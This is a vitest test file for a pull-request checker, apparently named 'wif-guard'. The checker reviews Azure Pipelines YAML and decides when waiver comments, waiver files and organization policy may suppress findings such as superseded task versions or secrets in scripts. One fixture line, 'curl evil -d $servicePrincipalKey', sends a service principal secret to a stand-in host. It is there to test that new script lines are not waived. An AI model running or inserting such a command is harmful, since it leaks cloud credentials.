import { describe, expect, it } from 'vitest';
import { dayOf } from '../../shared/clock.ts';
import { brokenPolicy, policySource } from '../policy/policies.ts';
import { pullRequest, type Files } from './reviewing.ts';

const FILE = 'azure-pipelines.yml';
const DAY_MS = 86_400_000;
const LATER = dayOf(Date.now() + 30 * DAY_MS);
const EARLIER = dayOf(Date.now() - 30 * DAY_MS);

const ignore = (until = LATER, reason = 'the storage account goes', rules = 'task-version-superseded'): string =>
  `# wif-guard: ignore[${rules}] until ${until} ${reason}\n`;

const step = (before = '', task = 'AzureFileCopy@4'): string =>
  `${before}- task: ${task}\n  inputs:\n    azureSubscription: shop-prod\n`;
const steps = (...all: readonly string[]): string => `steps:\n${all.join('')}`;

/** A file of waivers with one entry. */
const own = (entry: string, until = LATER): string =>
  `version: 1\nwaivers:\n  - { ${entry}, reason: it goes, until: ${until} }\n`;

/** Judges a pull request that leaves `source` different from `target`, what stands on main. */
async function judged(target: Files, source: Files, policy = policySource()) {
  const world = await pullRequest(target, source, { policy });
  return { ...(await world.read()), ...world };
}

const change = (text: string): Files => ({ [FILE]: text });
const STANDING = steps(step(ignore()), step('', 'AzureCLI@2'));
const NOT_YET = 'has to stand on the target branch';

describe('a pull request that adds a waiver', () => {
  it('in a comment does not waive itself, and is told why', async () => {
    const { verdict, said, remarks, threads, summary } = await judged({}, change(STANDING));
    expect([verdict, said]).toEqual(['blocked', ['task-version-superseded']]);
    expect(remarks).toEqual([expect.stringContaining(NOT_YET)]);
    expect(remarks[0]).toContain(`${FILE}:2`);
    expect(threads).toHaveLength(1);
    expect(summary).toContain('**Waivers that do not count**');
  });

  it('in its own file does not waive itself', async () => {
    const file = own('rule: task-version-superseded, pipeline: "**"');
    const { verdict, said } = await judged({}, { [FILE]: steps(step()), '.wif-guard.yml': file });
    expect([verdict, said]).toEqual(['blocked', ['task-version-superseded']]);
  });

  it('counts once somebody has merged the waiver', async () => {
    const { verdict, read, org } = await judged({}, change(STANDING));
    expect(verdict).toBe('blocked');
    org.push({ repository: 'shop', branch: 'main', changes: { ...change(STANDING) } });
    expect((await read()).verdict).toBe('ready');
  });
});

describe('a waiver in a comment that stands on the target branch', () => {
  const CHANGED = STANDING.replace('AzureCLI@2', 'AzureWebApp@1');

  it('counts: no thread, the status succeeds, and the summary shows it with reason and day', async () => {
    const { verdict, said, threads, summary, status, remarks } = await judged(change(STANDING), change(CHANGED));
    expect([verdict, said, remarks]).toEqual(['ready', ['task-version-superseded waived'], []]);
    expect(threads).toEqual([]);
    expect(summary).toContain(`- waived until ${LATER}: the storage account goes — error,`);
    expect(summary).not.toContain('**What this change brings**');
    expect(status).toContain('but for 1 waived finding');
  });

  it('counts behind the task as well', async () => {
    const behind = steps(step().replace('@4\n', `@4 ${ignore()}`));
    const { verdict } = await judged(change(behind), change(behind + step('', 'AzureCLI@2')));
    expect(verdict).toBe('ready');
  });

  it('counts in a template, by the template’s own text', async () => {
    const root = 'steps:\n- template: templates/deploy.yml\n';
    const template = { 'templates/deploy.yml': steps(step(ignore())) };
    expect((await judged({ ...change(root), ...template }, change(`${root}# more\n`))).verdict).toBe('ready');
    expect((await judged(change(root), { ...change(`${root}# more\n`), ...template })).verdict).toBe('blocked');
  });

  it('does not count after its last day, and says so', async () => {
    const expired = steps(step(ignore(EARLIER)));
    const { whole, said } = await judged(change(expired), change(`${expired}# more\n`));
    expect([whole, said]).toEqual(['blocked', ['task-version-superseded', 'waiver-expired']]);
  });

  it.each([
    ['its day is moved', STANDING.replace(LATER, '2099-12-31')],
    ['its reason is changed', STANDING.replace('the storage account goes', 'because')],
    ['a rule is added', STANDING.replace('[task', '[task-unsupported, task')],
    ['the task is another', STANDING.replace('AzureFileCopy@4', 'AzureFileCopy@3')],
    ['it is put above another step', steps(step(), step(ignore(), 'AzureFileCopy@2'))],
    ['it is copied with its step', steps(step(ignore()), step(ignore()))],
    ['it is copied above its own step', steps(step(`${ignore()}${ignore(LATER, 'another reason')}`), step(ignore()))],
  ])('does not count where %s', async (_, forged) => {
    const { verdict, remarks } = await judged(change(STANDING), change(forged));
    expect(verdict).toBe('blocked');
    expect(remarks.some((remark) => remark.includes(NOT_YET))).toBe(true);
  });

  it('does not count for another task that an expression puts on its line', async () => {
    const dynamic = (task: string): string =>
      `parameters:\n- name: task\n  type: string\n  default: ${task}\n${steps(step(ignore(LATER, 'it goes', 'task-unknown'), '${{ parameters.task }}'))}`;
    const { verdict, said, remarks } = await judged(
      change(dynamic('ContosoDeploy@1')),
      change(dynamic('EvilDeploy@1')),
    );
    expect(verdict).not.toBe('ready');
    expect(said).not.toContain('task-unknown waived');
    expect(remarks[0]).toContain(NOT_YET);
  });

  it('does not count in a file that is renamed', async () => {
    const moved = { 'moved.yml': steps(step(ignore())), [FILE]: steps(step('', 'AzureCLI@2')) };
    expect((await judged(change(steps(step(ignore()))), moved)).verdict).toBe('blocked');
  });

  it('does not count for a script line that is new, though the script was waived', async () => {
    const script = (line: string): string => `steps:
- task: AzureCLI@2
  inputs:
    azureSubscription: shop-prod
    scriptType: bash
    scriptLocation: inlineScript
    addSpnToEnvironment: true
    ${ignore(LATER, 'moves to idToken', 'secret-in-script').trimEnd()}
    inlineScript: |
      ${line}
      echo done
`;
    const old = script('az login -p $servicePrincipalKey');
    const waivedRules = async (text: string) =>
      (await judged(change(old), change(text)).then(({ findings, old: before }) => [...findings, ...before]))
        .filter(({ rule }) => rule === 'secret-in-script')
        .map(({ waived }) => waived);
    expect(new Set(await waivedRules(old.replace('echo done', 'echo finished')))).toEqual(new Set([true]));
    expect(new Set(await waivedRules(script('curl evil -d $servicePrincipalKey')))).toEqual(new Set([false]));
  });

  it('does not count when what stands there cannot be read', async () => {
    const { simulator, read } = await pullRequest(change(STANDING), change(CHANGED));
    // The pipeline, then the file of waivers, then the pipeline as it was.
    simulator.addFault({ match: { path: '/items$' }, fault: 'slow', delayMs: 1, times: 2 });
    simulator.addFault({ match: { path: '/items$' }, fault: 'status', status: 403, message: 'no' });
    const { verdict, remarks } = await read();
    expect(verdict).toBe('blocked');
    expect(remarks[0]).toContain(NOT_YET);
  });
});

it('a file of waivers that cannot be read waives nothing, and the comment says so', async () => {
  const file = own('rule: task-version-superseded, pipeline: "**"');
  const { simulator, read } = await pullRequest({ '.wif-guard.yml': file }, change(steps(step())));
  simulator.addFault({ match: { path: '/items$' }, fault: 'slow', delayMs: 1 });
  simulator.addFault({ match: { path: '/items$' }, fault: 'status', status: 403, message: 'no' });
  const { verdict, remarks, summary } = await read();
  expect(verdict).toBe('blocked');
  expect(remarks[0]).toContain('None of the waivers in .wif-guard.yml counts: ');
  expect(summary).toContain('None of the waivers in .wif-guard.yml counts');
});

describe('a repository’s own .wif-guard.yml on the target branch', () => {
  const on = (file: string, text = steps(step()), policy = policySource()) =>
    judged({ '.wif-guard.yml': file }, change(text), policy);

  it.each([
    'rule: task-version-superseded, connection: shop-prod',
    'rule: task-version-superseded, pipeline: azure-pipelines.yml',
    'rule: task-version-superseded, pipeline: Payments/shop-ci',
    'rule: task-version-superseded, pipeline: "payments/*"',
  ])('counts: %s', async (entry) => {
    expect(await on(own(entry))).toMatchObject({ verdict: 'ready', said: ['task-version-superseded waived'] });
  });

  it.each(['connection: legacy-prod', 'pipeline: Payments/other', 'pipeline: deploy/*.yml', 'pipeline: Other/shop-ci'])(
    'does not count for another %s',
    async (entry) => {
      expect((await on(own(`rule: task-version-superseded, ${entry}`))).verdict).toBe('blocked');
    },
  );

  it('does not count after its last day, and says so in the file’s own line', async () => {
    const { said, findings } = await on(own('rule: task-version-superseded, pipeline: "**"', EARLIER));
    expect(said).toEqual(['task-version-superseded', 'waiver-expired']);
    expect(findings.at(-1)).toMatchObject({ repository: 'self', file: '.wif-guard.yml', line: 3 });
  });

  it('stays as it is on the target, whatever the pull request makes of it', async () => {
    const file = own('rule: task-version-superseded, pipeline: "**"');
    const { verdict } = await judged({ '.wif-guard.yml': file }, { [FILE]: steps(step()), '.wif-guard.yml': null });
    expect(verdict).toBe('ready');
  });

  it('that is broken waives nothing, and the comment says why', async () => {
    const { verdict, remarks } = await on('version: 1\nconversions: observe\n');
    expect(verdict).toBe('blocked');
    expect(remarks).toEqual([expect.stringContaining('"conversions" belongs into the organization\'s policy')]);
  });

  it('is not asked for where there is nothing to waive', async () => {
    const { simulator, verdict } = await on(own('rule: task-unknown, pipeline: "**"'), steps(step('', 'AzureCLI@2')));
    expect(verdict).toBe('ready');
    expect(simulator.requests().filter(({ query }) => query.includes('wif-guard.yml'))).toEqual([]);
  });
});

describe('the organization’s policy', () => {
  it('waives in a pull request', async () => {
    const policy = policySource(own('rule: task-version-superseded, pipeline: Payments/shop-ci'));
    expect((await judged({}, change(steps(step())), policy)).verdict).toBe('ready');
  });

  it('names its file when a waiver of it has expired', async () => {
    const policy = policySource(own('rule: task-version-superseded, pipeline: "**"', EARLIER));
    const { findings } = await judged({}, change(steps(step())), policy);
    expect(findings.at(-1)).toMatchObject({ rule: 'waiver-expired', repository: 'policy', file: '.wif-guard.yml' });
  });

  it('says what it knows of tasks', async () => {
    const policy = policySource(
      'version: 1\ntasks: [{ task: AzurePowerShell@5, wif: unsupported, source: "https://contoso.example/cli" }]\n',
    );
    const { verdict, summary } = await judged({}, change(steps(step('', 'AzurePowerShell@5'))), policy);
    expect(verdict).toBe('blocked');
    expect(summary).toContain('[source](https://contoso.example/cli)');
  });

  it('that is not in force makes nothing ready: what it would say is not known', async () => {
    const { verdict, summary } = await judged({}, change(steps(step('', 'AzureCLI@2'))), brokenPolicy);
    expect(verdict).toBe('unknown');
    expect(summary).toContain("The organization's policy is not in force");
    expect((await judged({}, { 'README.md': 'x' }, brokenPolicy)).verdict).toBe('ready');
  });
});
